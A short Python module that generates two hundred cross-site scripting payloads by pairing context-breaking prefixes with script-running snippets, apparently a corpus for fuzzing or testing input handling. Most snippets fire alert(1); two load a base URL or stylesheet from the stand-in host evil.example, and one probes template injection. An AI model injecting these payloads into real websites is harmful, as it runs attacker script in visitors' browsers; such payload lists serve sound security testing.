"""Two hundred things somebody may type to make a page run something."""

from itertools import product

_BREAKING_OUT = ("", '"', "'", "-->", "</textarea>", "</title>", "</script>", '">', "'>", "`")
_RUNNING = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form><button formaction=javascript:alert(1)>x",
    "<base href=//evil.example/>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<object data=data:text/html,<script>alert(1)</script>>",
    " onmouseover=alert(1) x=",
    "javascript:alert(1)//",
    "{{ 7*7 }}{% debug %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<ScRiPt >alert(1)</sCrIpT>",
    "<style>@import '//evil.example/a.css';</style>",
    "\u202e<script\u2028>alert(1)</script>",
)
PAYLOADS = tuple(before + running for before, running in product(_BREAKING_OUT, _RUNNING))
